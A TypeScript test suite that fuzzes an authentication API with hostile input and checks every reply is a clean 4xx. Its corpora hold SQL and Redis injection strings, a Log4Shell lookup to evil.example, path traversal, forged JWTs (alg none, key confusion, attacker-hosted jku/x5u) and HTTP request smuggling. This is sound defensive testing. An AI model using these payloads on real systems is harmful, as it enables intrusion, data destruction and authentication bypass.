import { createApp } from "../../src/app.js";
import { serve } from "@hono/node-server";
import { eq } from "drizzle-orm";
import fc from "fast-check";
import { decodeJwt, decodeProtectedHeader, exportJWK, generateKeyPair, SignJWT, type CryptoKey } from "jose";
import { connect } from "node:net";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { toBase64Url } from "../../src/lib/encoding.js";
import { users } from "../../src/db/schema.js";
import { testDatabaseUrl, testRedisUrl } from "../helpers/backends.js";
import { createTestApp, inProcessClient, type BackendName, type TestApp, type TestClient, type TestResponse } from "../helpers/test-app.js";
import { PASSWORD, scanAll, uniqueEmail } from "./support.js";

/**
 * What attackers and broken clients send, thrown at every endpoint (read from the OpenAPI
 * document, so routes added later are covered): malformed and deeply nested JSON, wrong types,
 * huge strings and bodies, NUL bytes, unicode edge cases, prototype-pollution keys, SQL and Redis
 * injection strings, absurd headers, and forged JWTs of every kind RFC 8725 describes. Every answer
 * must be a problem (or the route's no-oracle success, such as /logout's 204), never a 5xx, and the
 * service must be healthy afterwards. A fixed corpus first, then fast-check properties (bounded runs).
 */

interface Operation {
  method: string;
  path: string;
  hasBody: boolean;
  /** The top-level fields of its JSON body, from the OpenAPI schema. */
  fields: string[];
}

interface OpenApiDoc {
  paths: Record<string, Record<string, { requestBody?: { content?: Record<string, { schema?: { $ref?: string; properties?: object } }> } }>>;
  components?: { schemas?: Record<string, { properties?: object }> };
}

function operationsOf(doc: OpenApiDoc): Operation[] {
  return Object.entries(doc.paths).flatMap(([template, methods]) =>
    Object.entries(methods).map(([method, operation]) => {
      let schema = operation.requestBody?.content?.["application/json"]?.schema;
      if (schema?.$ref) schema = doc.components?.schemas?.[schema.$ref.split("/").pop()!];
      return {
        method: method.toUpperCase(),
        path: template.replace(/\{[^}]+\}/g, UUID),
        hasBody: Boolean(operation.requestBody),
        fields: Object.keys(schema?.properties ?? {}),
      };
    }),
  );
}

const UUID = "0190a5b4-0000-7000-8000-000000000000";
const enc = (value: unknown) => toBase64Url(new TextEncoder().encode(typeof value === "string" ? value : JSON.stringify(value)));

/**
 * Not a 5xx; a 4xx is an RFC 9457 problem (on the OAuth endpoints, RFC 6749 §5.2's JSON error, the
 * shape relying parties read); and nothing that looks like a stack trace or a driver message.
 */
function expectSafe(response: TestResponse, label: string): void {
  expect(response.status, `${label}: ${response.text.slice(0, 300)}`).toBeLessThan(500);
  if (response.status >= 400 && / \/oauth\//.test(label) && response.headers.get("content-type")?.startsWith("application/json")) {
    expect(response.body, label).toMatchObject({ error: expect.any(String), error_description: expect.any(String) });
  } else if (response.status >= 400) {
    expect(response.headers.get("content-type"), label).toMatch(/^application\/problem\+json/);
    expect(response.body, label).toMatchObject({ status: response.status, title: expect.any(String), type: expect.any(String) });
  }
  expect(response.text, label).not.toMatch(/at .+\.(ts|js):\d+|syntax error at|PostgresError|ReplyError|ERR |WRONGTYPE|NOSCRIPT|relation "/);
}

// ---------------------------------------------------------------------------------------------
// The fixed corpus

const HOSTILE_STRINGS: string[] = [
  "",
  " ",
  "\u0000",
  "a\u0000b@example.com",
  "pass\u0000word-that-is-long",
  "\ud800",
  "\udfff\ud800",
  "x\ud83d", // half an emoji
  "\u202eexample.com@evil",
  "\u200b\u200c\u200d\ufeff",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", // stacked combining marks
  "\uffff\ufffe",
  "𝕒𝕕𝕒@example.com",
  "ＡＤＡ@ＥＸＡＭＰＬＥ.ＣＯＭ",
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "admin@example.com' --",
  "\") OR 1=1 --",
  "1; SELECT pg_sleep(10); --",
  "$1",
  "%s%s%s%n",
  "\r\nFLUSHALL\r\n",
  "*1\r\n$8\r\nFLUSHALL\r\n",
  "{session}*",
  "user:*",
  "[a-z]*?",
  "../../../../etc/passwd",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "x".repeat(300),
  "y".repeat(12_000),
  "🔑".repeat(300),
];

/** The hostile strings tried one field at a time, where the rest of the body is valid. */
const PER_FIELD_STRINGS: string[] = [
  "\u0000",
  "a\u0000b@example.com",
  "\ud800",
  "x\ud83d",
  "\u202eexample.com@evil",
  "\u200b\u200c\u200d\ufeff",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "ＡＤＡ@ＥＸＡＭＰＬＥ.ＣＯＭ",
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "*1\r\n$8\r\nFLUSHALL\r\n",
  "{session}*",
  "x".repeat(300),
  "y".repeat(12_000),
];

const WRONG_TYPES: unknown[] = [null, true, 0, -1, 1e308, 12345678901234567890, [], ["a"], {}, { $ne: null }, { $gt: "" }];

/** Bodies as raw text: JSON that is broken, strange or hostile in its structure. */
function rawBodies(): Array<[string, string]> {
  return [
    ["empty", ""],
    ["whitespace", "   \n\t "],
    ["truncated", '{"email":'],
    ["single quotes", "{'email':'a@example.com'}"],
    ["trailing comma", '{"email":"a@example.com",}'],
    ["comment", '{"email":"a@example.com" /* hi */}'],
    ["NaN", '{"email":NaN}'],
    ["Infinity", '{"password":Infinity}'],
    ["huge number", `{"limit":1${"0".repeat(400)}}`],
    ["lone NUL", "\u0000"],
    ["NUL inside", '{"email":"a@example.com"\u0000}'],
    ["BOM", '\ufeff{"email":"a@example.com"}'],
    ["null", "null"],
    ["number", "42"],
    ["string", '"a@example.com"'],
    ["array", "[]"],
    ["nested arrays", `${"[".repeat(7000)}${"]".repeat(7000)}`],
    ["nested objects", `${'{"a":'.repeat(2500)}1${"}".repeat(2500)}`],
    ["unbalanced nesting", "[".repeat(10_000)],
    ["duplicate keys", '{"email":"a@example.com","email":{"x":1},"password":"p","password":[1]}'],
    ["__proto__", '{"__proto__":{"roles":["admin"],"isAdmin":true},"email":"proto@example.com","password":"correct horse battery"}'],
    ["constructor.prototype", '{"constructor":{"prototype":{"roles":["admin"]}},"email":"ctor@example.com","password":"correct horse battery"}'],
    ["prototype keys as fields", '{"email":"__proto__@example.com","password":"constructor","name":"prototype","refresh_token":"__proto__"}'],
    ["escaped lone surrogates", '{"email":"\\ud800@example.com","password":"\\udc00\\udc00\\udc00\\udc00","name":"\\ud800","refresh_token":"\\udfff"}'],
    ["invalid UTF-8 bytes as latin1", '{"email":"\u00c3\u0028@example.com","password":"\u00ff\u00fe\u00fd\u00fc\u00fb\u00fa\u00f9\u00f8"}'],
    ["unicode escapes of controls", '{"email":"a\\u0000@example.com","password":"\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000\\u0000","name":"\\u001b[31mred"}'],
  ];
}

const NOT_A_JSON_OBJECT = new Set(["empty", "whitespace", "truncated", "single quotes", "trailing comma", "comment", "NaN", "Infinity", "lone NUL", "NUL inside", "null", "number", "string", "array", "nested arrays", "unbalanced nesting"]);

/** A value each known field accepts, so that one hostile field at a time gets past the others. */
const PLAUSIBLE: Record<string, () => unknown> = {
  email: () => uniqueEmail("hostile"),
  password: () => "not the password 1",
  current_password: () => "not the password 1",
  new_password: () => "another password 2",
  name: () => "Ada",
  refresh_token: () => "not-a-refresh-token",
  scope: () => "session",
  roles: () => ["user"],
  disabled: () => false,
};

/**
 * Object bodies for one route: all its fields given each hostile string and each wrong type; then
 * a plausible body with one hostile field at a time (so that the value reaches the service and the
 * database, not only the validator).
 */
function objectBodies(fields: string[]): Array<[string, unknown]> {
  const bodies: Array<[string, unknown]> = [];
  const all = [...new Set([...fields, "email", "password", "refresh_token"])];
  for (const value of [...HOSTILE_STRINGS, ...WRONG_TYPES]) {
    const label = typeof value === "string" ? JSON.stringify(value.slice(0, 24)) : JSON.stringify(value)?.slice(0, 24);
    bodies.push([`every field = ${label}`, Object.fromEntries(all.map((field) => [field, value]))]);
  }
  for (const field of fields) {
    for (const value of [...PER_FIELD_STRINGS, ["admin", { $ne: null }]]) {
      const plausible = Object.fromEntries(fields.map((other) => [other, PLAUSIBLE[other]?.() ?? "x"]));
      bodies.push([`${field} = ${JSON.stringify(value).slice(0, 24)}`, { ...plausible, [field]: value }]);
    }
  }
  return bodies;
}

// ---------------------------------------------------------------------------------------------
// Forged JWTs (RFC 8725 §2-3: alg none, algorithm confusion, key substitution via jku/x5u/jwk/kid,
// weak or missing signatures, token substitution, cross-JWT confusion, plus malformed encodings)

async function forgedTokens(testApp: TestApp, genuine: string, refreshToken: string): Promise<Array<[string, string]>> {
  const claims = decodeJwt(genuine);
  const header = decodeProtectedHeader(genuine);
  const [h, p, s] = genuine.split(".") as [string, string, string];
  const publicJwk = testApp.signingKeys.publicJwks[0]!;
  const attacker = await generateKeyPair("EdDSA", { crv: "Ed25519", extractable: true });
  const attackerP256 = await generateKeyPair("ES256", { extractable: true });
  const sign = (protectedHeader: Record<string, unknown>, payload: Record<string, unknown>, key: CryptoKey | Uint8Array) =>
    new SignJWT(payload).setProtectedHeader(protectedHeader as { alg: string }).sign(key);
  const now = Math.floor(Date.now() / 1000);
  const tokens: Array<[string, string]> = [];
  for (const alg of ["none", "None", "NONE", "nOnE"]) tokens.push([`alg ${alg}`, `${enc({ ...header, alg })}.${p}.`]);
  tokens.push(["alg none, signature kept", `${enc({ ...header, alg: "none" })}.${p}.${s}`]);
  tokens.push(["no alg", `${enc({ kid: header.kid, typ: "at+jwt" })}.${p}.${s}`]);
  tokens.push(["signature stripped", `${h}.${p}.`]);
  tokens.push(["two parts", `${h}.${p}`]);
  tokens.push(["empty signature, alg kept", `${h}.${p}.${""}`]);
  tokens.push(["signature of zeros", `${h}.${p}.${enc("\u0000".repeat(64))}`]);
  tokens.push(["payload swapped (roles: admin)", `${h}.${enc({ ...claims, roles: ["admin"] })}.${s}`]);
  tokens.push(["payload swapped (sub)", `${h}.${enc({ ...claims, sub: UUID })}.${s}`]);
  // Algorithm confusion: HS256 keyed with the public key, in its usual encodings.
  for (const [label, secret] of [
    ["JWK JSON", JSON.stringify(publicJwk)],
    ["x", publicJwk.x!],
    ["raw x bytes", atob(publicJwk.x!.replaceAll("-", "+").replaceAll("_", "/"))],
  ] as const) {
    tokens.push([`HS256 keyed with the public key (${label})`, await sign({ alg: "HS256", kid: header.kid, typ: "at+jwt" }, claims, new TextEncoder().encode(secret))]);
  }
  // ECDSA "psychic signature" (CVE-2022-21449): r = s = 0.
  tokens.push(["ES256 r=s=0", `${enc({ alg: "ES256", kid: header.kid, typ: "at+jwt" })}.${p}.${enc("\u0000".repeat(64))}`]);
  tokens.push(["attacker key, our kid", await sign({ alg: "EdDSA", kid: header.kid, typ: "at+jwt" }, claims, attacker.privateKey)]);
  tokens.push(["attacker key, embedded jwk", await sign({ alg: "EdDSA", typ: "at+jwt", jwk: await exportJWK(attacker.publicKey) }, claims, attacker.privateKey)]);
  tokens.push(["attacker key, jku", await sign({ alg: "EdDSA", typ: "at+jwt", jku: "https://attacker.example/jwks" }, claims, attacker.privateKey)]);
  tokens.push(["attacker key, x5u", await sign({ alg: "EdDSA", typ: "at+jwt", x5u: "https://attacker.example/x5u" }, claims, attacker.privateKey)]);
  tokens.push(["attacker P-256 key, our kid", await sign({ alg: "ES256", kid: header.kid, typ: "at+jwt" }, claims, attackerP256.privateKey)]);
  for (const kid of ["../../../../dev/null", "' OR '1'='1", "*", "0", "", "\u0000", "a".repeat(5000)]) {
    tokens.push([`kid ${JSON.stringify(kid.slice(0, 20))}`, await sign({ alg: "EdDSA", kid, typ: "at+jwt" }, claims, attacker.privateKey)]);
  }
  const real = testApp.signingKeys.signing;
  const realSign = (extraHeader: Record<string, unknown>, payload: Record<string, unknown>) =>
    sign({ alg: real.alg, kid: real.kid, typ: "at+jwt", ...extraHeader }, payload, real.key);
  // jose will not even sign a header with an unknown critical extension: sign it by hand.
  const critInput = `${enc({ alg: real.alg, kid: real.kid, typ: "at+jwt", crit: ["exp-policy"], "exp-policy": 1 })}.${p}`;
  const critSignature = await crypto.subtle.sign("Ed25519", real.key, new TextEncoder().encode(critInput));
  tokens.push(["crit with an unknown extension", `${critInput}.${toBase64Url(new Uint8Array(critSignature))}`]);
  tokens.push(["typ JWT (cross-JWT confusion)", await realSign({ typ: "JWT" }, claims)]);
  // A nested JWT (cty: JWT) whose outer layer the attacker signed around our genuine token: a
  // verifier that unwraps nesting would accept the inner token under the attacker's outer claims.
  const nestedInput = `${enc({ alg: "EdDSA", kid: header.kid, typ: "at+jwt", cty: "JWT" })}.${enc(genuine)}`;
  const nestedSignature = await crypto.subtle.sign("Ed25519", attacker.privateKey, new TextEncoder().encode(nestedInput));
  tokens.push(["nested JWT (cty: JWT) around the genuine token", `${nestedInput}.${toBase64Url(new Uint8Array(nestedSignature))}`]);
  tokens.push(["wrong issuer", await realSign({}, { ...claims, iss: "https://idp.example" })]);
  tokens.push(["wrong audience", await realSign({}, { ...claims, aud: ["another-api"] })]);
  tokens.push(["no exp", await realSign({}, { ...claims, exp: undefined })]);
  tokens.push(["exp as a string", await realSign({}, { ...claims, exp: String(now + 600) })]);
  tokens.push(["expired long ago", await realSign({}, { ...claims, iat: 1, exp: 2 })]);
  tokens.push(["no sid", await realSign({}, { ...claims, sid: undefined })]);
  tokens.push(["sid of no session", await realSign({}, { ...claims, sid: UUID })]);
  tokens.push(["roles not an array", await realSign({}, { ...claims, roles: "admin" })]);
  tokens.push(["sub an object", await realSign({}, { ...claims, sub: { $ne: null } })]);
  tokens.push(["refresh token as access token", refreshToken]);
  tokens.push(["JWE-shaped (five parts)", `${enc({ alg: "dir", enc: "A256GCM" })}..${enc("iv")}.${enc("ct")}.${enc("tag")}`]);
  tokens.push(["header not JSON", `${enc("not json")}.${p}.${s}`]);
  tokens.push(["header a JSON array", `${enc([1, 2])}.${p}.${s}`]);
  tokens.push(["payload not JSON", `${h}.${enc("not json")}.${s}`]);
  tokens.push(["invalid base64url", `${h}!.${p}.${s}`]);
  tokens.push(["padding", `${h}==.${p}.${s}`]);
  tokens.push(["huge", `${h}.${"A".repeat(12_000)}.${s}`]);
  return tokens;
}

const AUTHORIZATION_HEADERS = (genuine: string): string[] => [
  "",
  "Bearer",
  "Bearer ",
  "Bearer  " + genuine,
  "bearer " + genuine.toUpperCase(),
  "Basic " + btoa("admin:admin"),
  "Bearer " + genuine + ", Bearer " + genuine,
  "Bearer " + genuine + " trailing",
  "Token " + genuine,
  "Bearer " + "x".repeat(15_000),
  "Bearer \u00e9\u00e8\u00ff",
  "Bearer %00",
  "Bearer null",
  "Bearer undefined",
  "Bearer ../../etc/passwd",
];

// ---------------------------------------------------------------------------------------------

/**
 * `full` throws everything; `storage` only what reaches the stores (the per-field corpus, paths and
 * queries, forged tokens against the session store, strings of any code unit), for a second backend
 * where what the HTTP layer alone decides (parsing, headers) would only be repeated.
 */
function describeHostileInput(backend: BackendName, scope: "full" | "storage") {
  // Defined only in the full scope (not skipped: the storage scope simply has fewer tests).
  const full = (name: string, test: () => Promise<void>) => {
    if (scope === "full") it(name, test);
  };
  describe(`hostile input (${backend}, ${scope})`, () => {
    let testApp: TestApp;
    let client: TestClient;
    let operations: Operation[];
    let token: string;
    let refreshToken: string;
    const account = { email: uniqueEmail("target"), password: PASSWORD };

    beforeAll(async () => {
      testApp = await createTestApp({ backend });
      client = inProcessClient(testApp.app);
      operations = operationsOf((await client.request("GET", "/doc")).body as OpenApiDoc);
      // An admin, so that hostile bodies get past every role check to the validation behind it.
      const registered = (await client.request("POST", "/register", { json: account })).body;
      await testApp.database.db.update(users).set({ roles: ["user", "admin"] }).where(eq(users.id, registered.id));
      const pair = (await client.request("POST", "/login", { json: account })).body;
      token = pair.access_token;
      refreshToken = pair.refresh_token;
    });
    afterAll(async () => {
      await testApp?.cleanup();
    });

    it("covers every documented endpoint", () => {
      const names = operations.map((operation) => `${operation.method} ${operation.path}`);
      expect(names).toEqual(expect.arrayContaining(["POST /register", "POST /login", "GET /me", "POST /refresh", "POST /logout", "GET /healthz"]));
      expect(operations.find((operation) => operation.path === "/register")?.fields).toEqual(expect.arrayContaining(["email", "password", "name"]));
    });

    full("answers malformed, strangely shaped and hostile JSON on every body route with a problem, never a 5xx", async () => {
      for (const operation of operations.filter((candidate) => candidate.hasBody)) {
        for (const [label, body] of rawBodies()) {
          const response = await client.request(operation.method, operation.path, { body, headers: { "content-type": "application/json" }, token });
          expectSafe(response, `${operation.method} ${operation.path} ${label}`);
          // Whatever is not a JSON object at all can only be refused; the rest depends on the route.
          if (NOT_A_JSON_OBJECT.has(label)) expect(response.status, `${operation.method} ${operation.path} ${label}`).toBeGreaterThanOrEqual(400);
        }
      }
    });

    /**
     * A signed-in user of its own (these are /me routes: no role needed): each route that checks a password (or a second-factor code) gets
     * one, since every wrong one counts toward its account's failed-login budget (hard cap 100), and
     * the routes together would spend the shared account's and revoke its session.
     */
    async function freshUserToken(): Promise<string> {
      const own = { email: uniqueEmail("target"), password: PASSWORD };
      expect((await client.request("POST", "/register", { json: own })).status).toBe(201);
      return (await client.request("POST", "/login", { json: own })).body.access_token;
    }

    it("answers wrong types, NUL bytes, unicode edge cases and injection strings in every field, never a 5xx", async () => {
      for (const operation of operations.filter((candidate) => candidate.hasBody)) {
        const checksSecrets = operation.fields.some((field) => ["password", "current_password", "code"].includes(field));
        const callerToken = checksSecrets ? await freshUserToken() : token;
        for (const [label, json] of objectBodies(operation.fields)) {
          expectSafe(await client.request(operation.method, operation.path, { json, token: callerToken }), `${operation.method} ${operation.path} ${label}`);
        }
      }
    }, 120_000);

    it("puts hostile values in paths and query strings of every route", async () => {
      const values = ["' OR 1=1 --", "%00", "%E2%80%AE", "..%2F..%2F", "*", "-1", "99999999999999999999", "a".repeat(3000), "%ZZ", "__proto__"];
      for (const operation of operations) {
        for (const value of values) {
          const path = operation.path.replace(UUID, value);
          const query = `?email=${value}&cursor=${value}&limit=${value}&__proto__[admin]=1`;
          expectSafe(await client.request(operation.method, `${path}${query}`, { token, ...(operation.hasBody && { json: {} }) }), `${operation.method} ${path}`);
        }
      }
    });

    full("answers absurd Authorization, X-Forwarded-For, X-Request-Id and Content-Type headers on every route", async () => {
      const forwarded = [Array(1000).fill("10.0.0.1").join(", "), "::ffff:zz", "1.1.1.1\u00e9", "-", ","];
      const contentTypes = ["application/json; charset=utf-16", "application/json;;;", "application/jsonx", "APPLICATION/JSON", "application/json, text/plain", "*/*"];
      for (const operation of operations) {
        for (const authorization of AUTHORIZATION_HEADERS(token)) {
          const response = await client.request(operation.method, operation.path, {
            headers: { authorization, "x-forwarded-for": forwarded[authorization.length % forwarded.length]!, "x-request-id": "\u00ff".repeat(200) },
            ...(operation.hasBody && { json: { email: "a@example.com", password: "x", refresh_token: "x" } }),
          });
          expectSafe(response, `${operation.method} ${operation.path} authorization ${authorization.slice(0, 30)}`);
        }
        if (operation.hasBody) {
          for (const contentType of contentTypes) {
            expectSafe(
              await client.request(operation.method, operation.path, { body: JSON.stringify({ email: "a@example.com" }), headers: { "content-type": contentType }, token }),
              `${operation.method} ${operation.path} content-type ${contentType}`,
            );
          }
        }
      }
    });

    it("rejects every forged JWT (RFC 8725) on every route that needs a token, with 401 and a Bearer challenge", async () => {
      const forged = await forgedTokens(testApp, token, refreshToken);
      const guarded = operations.filter((operation) => operation.path === "/me" || operation.path.startsWith("/me/") || operation.path.startsWith("/sessions") || operation.path.startsWith("/admin"));
      expect(guarded.length).toBeGreaterThan(0);
      for (const [label, forgedToken] of forged) {
        for (const operation of guarded) {
          const response = await client.request(operation.method, operation.path, { token: forgedToken, ...(operation.hasBody && { json: {} }) });
          expectSafe(response, `${operation.method} ${operation.path} ${label}`);
          expect(response.status, `${operation.method} ${operation.path} ${label}`).toBe(401);
          expect(response.headers.get("www-authenticate"), label).toMatch(/^Bearer /);
        }
      }
      // The genuine token still works: nothing above revoked or poisoned anything.
      expect((await client.request("GET", "/me", { token })).status).toBe(200);
    });

    full("property: any JSON value as the body of any body route is answered safely", async () => {
      const bodyRoutes = operations.filter((operation) => operation.hasBody);
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...bodyRoutes), fc.jsonValue({ maxDepth: 4 }), async (operation, value) => {
          expectSafe(await client.request(operation.method, operation.path, { json: value, token }), `${operation.method} ${operation.path}`);
        }),
        { numRuns: 200 },
      );
    });

    it("property: any UTF-16 string (lone surrogates included) in any field is answered safely", async () => {
      const bodyRoutes = operations.filter((operation) => operation.hasBody);
      const anyUtf16 = fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength: 300 });
      const field = fc.constantFrom("email", "password", "name", "refresh_token", "current_password", "new_password", "scope");
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...bodyRoutes), fc.dictionary(field, anyUtf16, { minKeys: 1 }), async (operation, body) => {
          expectSafe(await client.request(operation.method, operation.path, { json: body, token }), `${operation.method} ${operation.path}`);
        }),
        { numRuns: scope === "full" ? 200 : 100 },
      );
    });

    full("property: any bytes as a raw body are answered safely", async () => {
      const bodyRoutes = operations.filter((operation) => operation.hasBody);
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...bodyRoutes), fc.string({ unit: "binary", maxLength: 400 }), async (operation, body) => {
          expectSafe(await client.request(operation.method, operation.path, { body, headers: { "content-type": "application/json" }, token }), operation.path);
        }),
        { numRuns: 200 },
      );
    });

    full("property: any Authorization header and any JWT-shaped token is refused with 401 by /me", async () => {
      const latin1 = fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).map((code) => String.fromCharCode(code)), maxLength: 200 });
      const jwtLike = fc
        .tuple(fc.jsonValue({ maxDepth: 2 }), fc.jsonValue({ maxDepth: 2 }), fc.uint8Array({ maxLength: 80 }))
        .map(([header, payload, signature]) => `Bearer ${enc(header)}.${enc(payload)}.${toBase64Url(signature)}`);
      const headerWithAlg = fc
        .record({ alg: fc.constantFrom("none", "HS256", "EdDSA", "ES256", "RS256", "PS256"), kid: fc.string(), typ: fc.constantFrom("at+jwt", "JWT") })
        .map((header) => `Bearer ${enc(header)}.${enc(decodeJwt(token))}.${enc("sig")}`);
      await fc.assert(
        fc.asyncProperty(fc.oneof(latin1, jwtLike, headerWithAlg), async (authorization) => {
          const response = await client.request("GET", "/me", { headers: { authorization: authorization.trim() === "" ? "x" : authorization } });
          expectSafe(response, authorization.slice(0, 40));
          expect(response.status).toBe(401);
        }),
        { numRuns: 200 },
      );
    });

    it("is healthy afterwards: /healthz, /readyz, the admin's token, and a normal register, login and refresh", async () => {
      expect((await client.request("GET", "/healthz")).status).toBe(200);
      expect((await client.request("GET", "/readyz")).status).toBe(200);
      // The admin's own token may have been revoked on purpose: the corpus sends wrong
      // current_password values, and a session that spends the confirmation budget is ended
      // (issue 11, item 5), and this address is then in back-off for that account. The owner signs
      // in afresh from another address, which the corpus never failed from.
      const owner = inProcessClient(createApp({ ...testApp.deps, remoteAddress: () => "192.0.2.99" }));
      const admin = await owner.request("POST", "/login", { json: account });
      expect(admin.status).toBe(200);
      expect((await client.request("GET", "/me", { token: admin.body.access_token })).status).toBe(200);
      const email = uniqueEmail("after");
      expect((await client.request("POST", "/register", { json: { email, password: PASSWORD } })).status).toBe(201);
      const login = await client.request("POST", "/login", { json: { email, password: PASSWORD } });
      expect(login.status).toBe(200);
      expect((await client.request("POST", "/refresh", { json: { refresh_token: login.body.refresh_token } })).status).toBe(200);
      // The SQL injection strings went in as data: the users table is there, and no row got admin.
      const admins = (await testApp.database.db.select({ roles: users.roles }).from(users)).filter((row) => row.roles.includes("admin"));
      expect(admins).toHaveLength(1);
      // The Redis injection strings went in as data too: the keyspace holds only this app's keys.
      if (testApp.redis) {
        const keys = await scanAll(testApp.redis.client, `${testApp.redis.keyPrefix}*`);
        expect(keys.length).toBeGreaterThan(0);
        expect(await testApp.redis.client.dbsize()).toBeGreaterThan(0);
      }
      // Prototype pollution would show on every object.
      expect(({} as Record<string, unknown>).roles).toBeUndefined();
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    });

    // Raw bytes need a real listener; one backend is enough for what the HTTP layer does with them.
    if (backend === "pglite") describeWire(() => testApp);
  });
}

// Everything on the embedded database (always there; it found a 500 that PostgreSQL did not have),
// what reaches the stores on PostgreSQL + Redis too.
describeHostileInput("pglite", "full");
describe.runIf(Boolean(testDatabaseUrl && testRedisUrl))("with TEST_DATABASE_URL and TEST_REDIS_URL", () => {
  describeHostileInput("postgres+redis", "storage");
});

// ---------------------------------------------------------------------------------------------

/** What only a raw socket can send: bytes that fetch refuses to put in a header, broken framing. */
function describeWire(appOf: () => TestApp) {
  describe("hostile bytes on the wire (a real HTTP server)", () => {
    let testApp: TestApp;
    let server: ReturnType<typeof serve>;
    let port: number;
    beforeAll(async () => {
      testApp = appOf();
      server = await new Promise<ReturnType<typeof serve>>((resolve) => {
        const started = serve({ fetch: testApp.app.fetch, port: 0, hostname: "127.0.0.1" }, () => resolve(started));
      });
      port = (server.address() as AddressInfo).port;
    });
    afterAll(async () => {
      await new Promise<void>((resolve) => {
        server?.close(() => resolve());
        if (server && "closeAllConnections" in server) server.closeAllConnections();
      });
    });

    /**
     * Sends raw bytes (as latin1) and returns the status code and the raw answer. The socket is not
     * half-closed, as a real client's is not: the requests say `Connection: close`, so the server
     * closes after answering; one it cannot parse it closes at once (status 0 then).
     */
    function raw(request: string): Promise<{ status: number; text: string }> {
      return new Promise((resolve) => {
        const socket = connect(port, "127.0.0.1");
        const chunks: Buffer[] = [];
        socket.setTimeout(5_000, () => socket.destroy());
        socket.on("data", (chunk: Buffer) => chunks.push(chunk));
        socket.on("error", () => {});
        socket.on("close", () => {
          const text = Buffer.concat(chunks).toString("latin1");
          resolve({ status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), text });
        });
        socket.write(Buffer.from(request, "latin1"));
      });
    }
    const utf8 = (text: string) => Buffer.from(text, "utf8").toString("latin1");
    const body = JSON.stringify({ email: "wire@example.com", password: "not the password" });

    it.each([
      ["UTF-8 in Authorization", `GET /me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${utf8("é‮ñ😀")}\r\nConnection: close\r\n\r\n`],
      ["UTF-8 in X-Forwarded-For", `POST /login HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${utf8("１.２.３.４, ‮")}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`],
      ["UTF-8 in X-Request-Id", `GET /me HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${utf8("ид-запроса")}\r\nConnection: close\r\n\r\n`],
      ["UTF-8 in Content-Type", `POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: ${utf8("application/json; charset=ütf-8")}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`],
      ["many X-Forwarded-For lines", `POST /login HTTP/1.1\r\nHost: x\r\n${"X-Forwarded-For: 10.0.0.1\r\n".repeat(200)}Content-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`],
      ["a body in invalid UTF-8", `POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 33\r\nConnection: close\r\n\r\n{"email":"\xff\xfe\xc3\x28@x","password":"p"}`],
    ])("%s: a problem, never a 5xx", async (_label, request) => {
      const answer = await raw(request);
      expect(answer.status).toBeGreaterThanOrEqual(400);
      expect(answer.status).toBeLessThan(500);
      expect(answer.text.toLowerCase()).toContain("content-type: application/problem+json");
    });

    it.each([
      ["a header block over Node's limit", `GET /me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${"a".repeat(20_000)}\r\nConnection: close\r\n\r\n`],
      ["a Content-Length that is not a number", `POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ten\r\nConnection: close\r\n\r\n{}`],
      ["two different Content-Lengths", `POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\nConnection: close\r\n\r\n{}`],
      ["Content-Length and chunked together (smuggling)", `POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /me HTTP/1.1\r\nHost: x\r\n\r\n`],
      ["a NUL in a header", `GET /me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer a\u0000b\r\nConnection: close\r\n\r\n`],
      ["not HTTP at all", `\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u01fc\u0003\u0003`],
    ])("%s: refused by the HTTP parser with a 4xx (or the connection closed), never a 5xx", async (_label, request) => {
      const answer = await raw(request);
      if (answer.status !== 0) {
        expect(answer.status).toBeGreaterThanOrEqual(400);
        expect(answer.status).toBeLessThan(500);
      }
    });

    it("stays healthy afterwards", async () => {
      const health = await raw(`GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      expect(health.status).toBe(200);
      const client = inProcessClient(testApp.app);
      const email = uniqueEmail("wire");
      expect((await client.request("POST", "/register", { json: { email, password: PASSWORD } })).status).toBe(201);
      expect((await client.request("POST", "/login", { json: { email, password: PASSWORD } })).status).toBe(200);
    });
  });
}
